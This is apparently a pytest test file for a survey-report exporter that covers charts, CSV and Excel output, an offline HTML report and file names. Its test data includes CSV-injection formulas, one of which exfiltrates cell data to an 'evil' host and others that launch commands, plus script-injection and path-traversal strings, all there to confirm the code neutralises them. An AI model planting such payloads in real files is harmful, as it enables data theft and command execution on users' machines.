"""Exports and the HTML report: charts drawn offline, tables that Excel opens, one HTML file."""

from __future__ import annotations

import io
import re
import struct
from pathlib import Path

import altair as alt
import numpy as np
import pandas as pd
import pytest

from mot.errors import ExportError, MotError
from mot.report import (
    PNG_SIGNATURE,
    Report,
    ReportSection,
    chart_png,
    chart_svg,
    csv_safe,
    file_name,
    format_number,
    table_to_csv,
    tables_to_excel,
    zip_files,
)

CHROMIUM = Path("/usr/bin/chromium")
SCREENSHOT = Path("/tmp/report.png")
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def moments() -> pd.DataFrame:
    return pd.DataFrame(
        {"moment": ["Estímulo", "ZMOT", "Atención"], "utility": [62.5, 48.0, 1234.5]}
    )


@pytest.fixture
def bar_chart(moments: pd.DataFrame) -> alt.Chart:
    return (
        alt.Chart(moments, title="Utility by moment")
        .mark_bar(color="#0072B2")
        .encode(x=alt.X("moment:N", sort=None, title="Moment"), y=alt.Y("utility:Q"))
    )


def number_chart(value: float) -> alt.Chart:
    """A single text mark that writes `value` with a thousands separator and one decimal."""
    frame = pd.DataFrame({"v": [value]})
    return alt.Chart(frame).mark_text().encode(text=alt.Text("v:Q", format=",.1f"))


def png_size(data: bytes) -> tuple[int, int]:
    """Width and height from the IHDR chunk, which follows the 8-byte signature."""
    return struct.unpack(">II", data[16:24])


# --- charts -------------------------------------------------------------------------------


def test_chart_svg_draws_the_data_labels(bar_chart):
    svg = chart_svg(bar_chart)
    assert svg.startswith("<svg")
    assert "Estímulo" in svg
    assert "Utility by moment" in svg


def test_chart_svg_writes_numbers_in_the_language():
    assert ">1,234.5<" in chart_svg(number_chart(1234.5))
    assert ">1.234,5<" in chart_svg(number_chart(1234.5), language="es")


def test_chart_svg_escapes_text_from_the_data():
    frame = pd.DataFrame({"label": ["<script>alert(1)</script>"], "n": [1]})
    chart = alt.Chart(frame).mark_bar().encode(x="label:N", y="n:Q")
    svg = chart_svg(chart)
    assert "<script" not in svg
    assert "&lt;script&gt;" in svg


def test_chart_svg_accepts_a_plain_spec_and_an_object_with_only_to_json(bar_chart):
    class JsonOnly:
        def to_json(self) -> str:
            return bar_chart.to_json()

    assert "Estímulo" in chart_svg(bar_chart.to_dict())
    assert "Estímulo" in chart_svg(JsonOnly())


def test_chart_png_is_a_png_scaled_as_asked(bar_chart):
    small = chart_png(bar_chart, scale=1)
    large = chart_png(bar_chart)  # scale=2 by default
    assert small.startswith(PNG_SIGNATURE) and large.startswith(PNG_SIGNATURE)
    width, height = png_size(small)
    assert png_size(large) == (2 * width, 2 * height)


@pytest.mark.parametrize("scale", [0, -1, float("nan"), "2", True])
def test_chart_png_rejects_a_bad_scale(bar_chart, scale):
    with pytest.raises(ExportError, match="scale"):
        chart_png(bar_chart, scale=scale)


def test_an_invalid_spec_raises_an_export_error_naming_the_chart():
    spec = {"title": "Broken chart", "data": {"values": [{"a": 1}]}, "mark": "nope"}
    with pytest.raises(ExportError, match="Broken chart") as caught:
        chart_svg(spec)
    assert isinstance(caught.value, MotError)
    assert "Check that the chart displays" in str(caught.value)
    assert "https://" not in str(caught.value)  # no JavaScript stack trace in the message
    with pytest.raises(ExportError, match="untitled nope chart"):
        chart_png({"data": {"values": [{"a": 1}]}, "mark": "nope"})


def test_an_altair_chart_that_fails_validation_raises_an_export_error(moments):
    chart = alt.Chart(moments).mark_bar().encode(x="moment:N")
    chart.width = "wide"  # assignment skips the check that .properties(width=...) would make
    with pytest.raises(ExportError, match=r"not a valid Vega-Lite spec.*'wide'"):
        chart_svg(chart)


def test_something_that_is_not_a_chart_raises_an_export_error():
    with pytest.raises(ExportError, match="no to_dict"):
        chart_svg(42)


def test_charts_never_fetch_data_from_a_url():
    chart = alt.Chart("https://example.com/moments.csv").mark_bar().encode(x="moment:N")
    with pytest.raises(ExportError, match="inline data"):
        chart_svg(chart)


# --- numbers --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "language", "decimals", "expected"),
    [
        (1234.5, "en", 1, "1,234.5"),
        (1234.5, "es", 1, "1.234,5"),
        (-1234567.891, "en", 2, "-1,234,567.89"),
        (-1234567.891, "es", 2, "-1.234.567,89"),
        (1234, "es", 0, "1.234"),
        (np.int64(7), "en", 1, "7.0"),
        (0.25, "es", 3, "0,250"),
        (-0.04, "en", 1, "0.0"),  # no "-0.0"
        (float("nan"), "en", 1, ""),
        (None, "es", 1, ""),
        (pd.NA, "en", 1, ""),
        (float("inf"), "en", 1, "∞"),
        (float("-inf"), "es", 1, "-∞"),
    ],
)
def test_format_number(value, language, decimals, expected):
    assert format_number(value, language, decimals) == expected


@pytest.mark.parametrize(
    ("value", "language", "decimals"),
    [(1.0, "fr", 1), (1.0, "en", -1), (1.0, "en", 1.5), (True, "en", 1), ("12", "en", 1)],
)
def test_format_number_rejects_bad_input(value, language, decimals):
    with pytest.raises(ExportError):
        format_number(value, language, decimals)


# --- tables ---------------------------------------------------------------------------------


def test_tables_to_excel_round_trips_with_valid_unique_sheet_names():
    scores = pd.DataFrame(
        {
            "touchpoint": pd.Categorical(["Atención al cliente", "Entrega", None]),
            "utility": [72.5, np.nan, 40.0],
            "formula_like": ["=1+1", "+34 600", "ok"],
        }
    )
    before = scores.copy()
    long_name = "Utilities by touchpoint and segment 2024"  # 40 characters
    tables = {
        "Gaps: FMOT/ZMOT [draft]?": scores,
        long_name: scores,
        long_name.upper(): scores,  # Excel sheet names ignore case
        "": scores,
        "History": scores,
    }
    sheets = pd.read_excel(io.BytesIO(tables_to_excel(tables)), sheet_name=None)

    names = list(sheets)
    assert names == [
        "Gaps_ FMOT_ZMOT _draft__",
        long_name[:31],
        long_name.upper()[:27] + " (2)",
        "Sheet",
        "History_",
    ]
    assert all(len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name) for name in names)
    assert len({name.casefold() for name in names}) == len(names)

    first = sheets[names[0]]
    assert first["touchpoint"].tolist()[:2] == ["Atención al cliente", "Entrega"]
    assert pd.isna(first["touchpoint"].iloc[2])  # missing category → empty cell
    assert pd.isna(first["utility"].iloc[1])  # NaN → empty cell
    assert first["utility"].iloc[0] == 72.5
    assert first["formula_like"].tolist() == ["=1+1", "+34 600", "ok"]  # text, not formulas
    pd.testing.assert_frame_equal(scores, before)  # input untouched


def test_tables_to_excel_writes_a_named_index_and_skips_a_default_one():
    named = pd.DataFrame({"n": [3, 4]}, index=pd.Index(["a", "b"], name="segment"))
    sheets = pd.read_excel(
        io.BytesIO(tables_to_excel({"named": named, "plain": named.reset_index()})),
        sheet_name=None,
    )
    assert sheets["named"].columns.tolist() == ["segment", "n"]
    assert sheets["plain"].columns.tolist() == ["segment", "n"]


def test_tables_to_excel_writes_timezone_aware_times_as_local_time():
    when = pd.DataFrame({"at": pd.to_datetime(["2025-05-14 10:32"]).tz_localize("Europe/Madrid")})
    sheet = pd.read_excel(io.BytesIO(tables_to_excel({"t": when})))
    assert sheet["at"].iloc[0] == pd.Timestamp("2025-05-14 10:32")


@pytest.mark.parametrize("tables", [{}, {"x": [1, 2]}, [pd.DataFrame()]])
def test_tables_to_excel_rejects_bad_input(tables):
    with pytest.raises(ExportError):
        tables_to_excel(tables)


def test_table_to_csv_starts_with_a_bom_and_round_trips():
    table = pd.DataFrame(
        {
            "momento": ["Atención", "Señal", "Compra"],
            "media": [72.5, np.nan, 1234.5],
            "n": [1, 2, 3],
        }
    )
    data = table_to_csv(table)
    assert data.startswith(BOM)
    assert "Atención".encode() in data
    pd.testing.assert_frame_equal(pd.read_csv(io.BytesIO(data), encoding="utf-8-sig"), table)


def test_table_to_csv_in_spanish_uses_semicolons_and_decimal_commas():
    table = pd.DataFrame({"momento": ["Atención"], "media": [1234.5]})
    data = table_to_csv(table, language="es")
    assert data == BOM + "momento;media\r\nAtención;1234,5\r\n".encode()
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", sep=";", decimal=",")
    pd.testing.assert_frame_equal(back, table)


def test_table_to_csv_rejects_what_is_not_a_table():
    with pytest.raises(ExportError, match="DataFrame"):
        table_to_csv([1, 2])


# Cells that a spreadsheet would run as formulas (OWASP "CSV Injection" and its examples).
FORMULAS = [
    "=1+1",
    "+A",
    "-B",
    "@x",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def formula_table() -> pd.DataFrame:
    """33 hostile text cells: touchpoint labels, comments and segment values (categorical),
    under column names that start with ``=`` / ``+`` / ``@``; beside numbers."""
    n = len(FORMULAS)
    return pd.DataFrame(
        {
            "=label": FORMULAS,
            "+comment": pd.array(FORMULAS[::-1], dtype="string"),
            "@segment": pd.Categorical(FORMULAS[1:] + FORMULAS[:1]),
            "value": [-3.5 + i for i in range(n)],
            "n": list(range(-5, n - 5)),
        }
    )


def read_back(data: bytes, sep: str = ",") -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", sep=sep, dtype=str, na_filter=False)


@pytest.mark.parametrize(("language", "sep"), [("en", ","), ("es", ";")])
def test_table_to_csv_writes_formula_like_text_as_text_and_keeps_numbers(language, sep):
    table = formula_table()
    before = table.copy()
    back = read_back(table_to_csv(table, language=language), sep)
    pd.testing.assert_frame_equal(table, before)  # the input is not modified
    assert list(back.columns) == ["'=label", "'+comment", "'@segment", "value", "n"]
    text = back.iloc[:, :3].to_numpy().ravel()
    assert len(text) == 33
    assert all(cell.startswith("'") for cell in text), text
    assert sorted(cell[1:] for cell in text) == sorted(FORMULAS * 3)
    decimal = "," if language == "es" else "."
    assert back["value"].iloc[0] == f"-3{decimal}5", "a negative number stays a number"
    assert back["n"].iloc[0] == "-5"


def test_csv_safe_prefixes_text_only_and_documents_text_numbers():
    table = pd.DataFrame({"text": ["-3", "ok", None, "a=1"], "number": [-3.0, 1.0, 2.0, 3.0]})
    safe = csv_safe(table)
    assert safe["text"].tolist()[:2] == ["'-3", "ok"], "a number kept as text is prefixed"
    assert safe["text"].isna().tolist() == [False, False, True, False]
    assert safe["text"].iloc[3] == "a=1", "only the first character counts"
    assert safe["number"].tolist() == [-3.0, 1.0, 2.0, 3.0]
    assert table["text"].iloc[0] == "-3"


def test_tables_to_excel_keeps_formula_like_text_as_text():
    import openpyxl

    table = formula_table()
    book = openpyxl.load_workbook(io.BytesIO(tables_to_excel({"t": table})))
    rows = list(book["t"].iter_rows())
    header, body = rows[0], rows[1:]
    assert [c.value for c in header] == list(table.columns)
    assert all(c.data_type == "s" for c in header), [(c.value, c.data_type) for c in header]
    cells = [c for row in body for c in row[:3]]
    assert len(cells) == 33
    assert all(c.data_type == "s" for c in cells), [c.value for c in cells if c.data_type != "s"]
    assert body[0][0].value == "=1+1", "Excel keeps the text as written, as text"
    assert [row[3].value for row in body][:2] == [-3.5, -2.5]
    assert all(row[3].data_type == "n" for row in body)


# --- the report ------------------------------------------------------------------------------

EXTERNAL = re.compile(r"https?://")
XMLNS_URL = re.compile(r'xmlns(?::\w+)?="https?://[^"]*"')


def assert_self_contained(page: str) -> None:
    """No script, no stylesheet link, no import; URLs only as SVG namespace names."""
    assert "<script" not in page.lower()
    assert "<link" not in page.lower()
    assert "@import" not in page.lower()
    assert "<iframe" not in page.lower() and "<img" not in page.lower()
    assert not EXTERNAL.search(XMLNS_URL.sub("", page))


@pytest.fixture
def report(bar_chart, moments) -> Report:
    rows = pd.DataFrame(
        {
            "respondent_id": [f"r{i:03d}" for i in range(250)],
            "segment": pd.Categorical(["new", "returning"] * 125),
            "value": np.linspace(0, 100, 250),
            "top_box": [True, False] * 125,
        }
    )
    tests = pd.DataFrame({"touchpoint": ["ZMOT", "FMOT"], "r": [0.4567, -0.12], "p": [2e-7, 0.03]})
    return Report(
        title="Moments of truth <script>alert('x')</script>",
        subtitle="Demo survey · 250 respondents",
        generated="2025-05-14 10:32 UTC",
        sections=(
            ReportSection(
                "Utilities",
                text="Scores per moment, 0–100.\n\nA second paragraph & more.",
                charts=(bar_chart, number_chart(1234.5)),
                tables=(("Utility per moment", moments),),
            ),
            ReportSection("Respondents", tables=(("Answers", rows), ("Tests", tests))),
            ReportSection("Empty section"),
        ),
    )


def test_report_html_has_titles_toc_charts_and_tables(report):
    page = report.to_html()
    assert page.startswith("<!DOCTYPE html>")
    assert '<html lang="en">' in page
    for number, title in enumerate(["Utilities", "Respondents", "Empty section"], start=1):
        assert f'<a href="#section-{number}">{title}</a>' in page
        assert f'<section id="section-{number}">\n<h2>{title}</h2>' in page
    assert page.count("<svg") == 2
    assert "Demo survey · 250 respondents" in page
    assert "Generated: 2025-05-14 10:32 UTC" in page
    assert "<p>A second paragraph &amp; more.</p>" in page
    assert "<caption>Utility per moment</caption>" in page
    assert '<td class="num">1,234.5</td>' in page
    assert "<td>True</td>" in page  # booleans as they are
    assert "<td>returning</td>" in page  # categoricals as their text


def test_report_html_escapes_text(report):
    page = report.to_html()
    assert "<script" not in page
    assert "<title>Moments of truth &lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page


def test_report_html_writes_spanish_numbers(report, moments):
    spanish = Report(
        "Informe",
        sections=(ReportSection("Puntuaciones", tables=(("Medias", moments),)),),
        language="es",
        generated="14/05/2025",
    )
    page = spanish.to_html()
    assert '<html lang="es">' in page
    assert '<td class="num">1.234,5</td>' in page
    assert '<td class="num">62,5</td>' in page
    assert "Contenido" in page and "Generado: 14/05/2025" in page


def test_report_html_states_how_many_rows_it_leaves_out(report):
    page = report.to_html()
    assert "Showing the first 200 of 250 rows." in page
    assert page.count("<tr>") == 1 + 3 + (1 + 200) + (1 + 2)  # header + rows, per table
    assert "first 200 of" not in report.to_html(max_rows=None)
    spanish = Report("Informe", sections=report.sections, language="es").to_html(max_rows=20)
    assert "Se muestran las primeras 20 de 250 filas." in spanish


def test_report_html_gives_small_values_enough_decimals(report):
    page = report.to_html()
    assert '<td class="num">0.457</td>' in page  # a correlation: three decimals
    assert '<td class="num">&lt; 0.001</td>' in page  # p = 2e-7 is not written as 0.000
    assert '<td class="num">0.030</td>' in page


def test_report_html_loads_nothing_from_outside(report):
    page = report.to_html()
    assert_self_contained(page)
    assert "<script src=" not in page
    assert "<link href=http" not in page
    assert "@import url(http" not in page
    assert "Content-Security-Policy" in page


def test_report_html_keeps_the_svg_ids_of_each_chart_apart():
    frame = pd.DataFrame({"x": [1, 2], "y": [3, 4], "c": [0.1, 0.9]})
    chart = alt.Chart(frame).mark_point(clip=True).encode(x="x:Q", y="y:Q", color="c:Q")
    page = Report("Two charts", sections=(ReportSection("Both", charts=(chart, chart)),)).to_html()
    ids = re.findall(r'\sid="([^"]+)"', page)
    assert len(ids) == len(set(ids))
    for reference in re.findall(r"url\(#([^)]+)\)", page):
        assert reference in ids


def test_report_html_names_the_section_of_a_chart_that_fails():
    broken = {"data": {"values": [{"a": 1}]}, "mark": "nope"}
    report = Report("R", sections=(ReportSection("Peaks", charts=(broken,)),))
    with pytest.raises(ExportError, match=r"Peaks.*chart 1"):
        report.to_html()


def test_report_and_sections_reject_bad_input(moments):
    with pytest.raises(ExportError, match="language"):
        Report("R", language="fr")
    with pytest.raises(ExportError, match="ReportSection"):
        Report("R", sections=("Utilities",))
    with pytest.raises(ExportError, match="caption, DataFrame"):
        ReportSection("S", tables=(moments,))
    with pytest.raises(ExportError, match="max_rows"):
        Report("R").to_html(max_rows=0)


def test_report_sections_accept_lists_and_store_tuples(moments, bar_chart):
    section = ReportSection("S", charts=[bar_chart], tables=[["t", moments]])
    report = Report("R", sections=[section])
    assert isinstance(report.sections, tuple)
    assert section.charts == (bar_chart,) and section.tables[0][0] == "t"


@pytest.mark.e2e
@pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Chromium at /usr/bin/chromium")
def test_report_opens_offline_in_a_browser(report, tmp_path):
    from playwright.sync_api import sync_playwright

    path = tmp_path / "report.html"
    path.write_text(report.to_html(max_rows=12), encoding="utf-8")  # a screenshot to look at
    requests: list[str] = []
    errors: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=str(CHROMIUM),
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        try:
            context = browser.new_context(offline=True, viewport={"width": 1100, "height": 900})
            page = context.new_page()
            page.on("request", lambda request: requests.append(request.url))
            page.on("console", lambda msg: errors.append(msg.text) if msg.type == "error" else 0)
            page.goto(path.as_uri())
            heading = page.get_by_role("heading", level=1)
            assert heading.is_visible()
            assert heading.inner_text() == "Moments of truth <script>alert('x')</script>"
            assert page.locator("section svg").count() == 2
            assert page.locator("section svg").first.is_visible()
            page.get_by_role("link", name="Respondents").click()
            assert page.evaluate("location.hash") == "#section-2"
            page.screenshot(path=str(SCREENSHOT), full_page=True)
        finally:
            browser.close()
    assert requests == [path.as_uri()]  # the file itself, nothing else
    assert errors == []  # e.g. no Content-Security-Policy violation


# --- file names and the zip bundle (issue 10) -------------------------------------------------


@pytest.mark.parametrize(
    ("title", "extension", "expected"),
    [
        ("Curva emocional", "png", "curva_emocional.png"),
        ("Importancia–desempeño", "svg", "importancia_desempeno.svg"),
        ("Recuerdo frente a pico-final", "csv", "recuerdo_frente_a_pico_final.csv"),
        ("Comparación", "PNG", "comparacion.png"),
        ("  Emotion curve  ", "png", "emotion_curve.png"),
        ("../../etc/passwd", "csv", "etc_passwd.csv"),  # never a path
    ],
)
def test_file_name_is_plain_ascii_from_the_title(title, extension, expected):
    assert file_name(title, extension) == expected


@pytest.mark.parametrize(("title", "extension"), [("—", "png"), ("", "png"), ("x", ".png")])
def test_file_name_rejects_what_makes_no_name(title, extension):
    with pytest.raises(ExportError):
        file_name(title, extension)


def test_zip_files_keeps_names_order_and_bytes_and_is_the_same_each_time():
    import zipfile

    files = {"informe.html": "<p>ñ</p>".encode(), "curva_emocional.png": PNG_SIGNATURE + b"x"}
    data = zip_files(files)
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.namelist() == ["informe.html", "curva_emocional.png"]
    assert archive.read("informe.html").decode() == "<p>ñ</p>"
    assert archive.testzip() is None
    assert zip_files(files) == data


@pytest.mark.parametrize(
    "files", [{}, {"../x.csv": b"a"}, {"a/b.csv": b"a"}, {"x.csv": "text"}, [("x", b"")]]
)
def test_zip_files_rejects_bad_input(files):
    with pytest.raises(ExportError):
        zip_files(files)
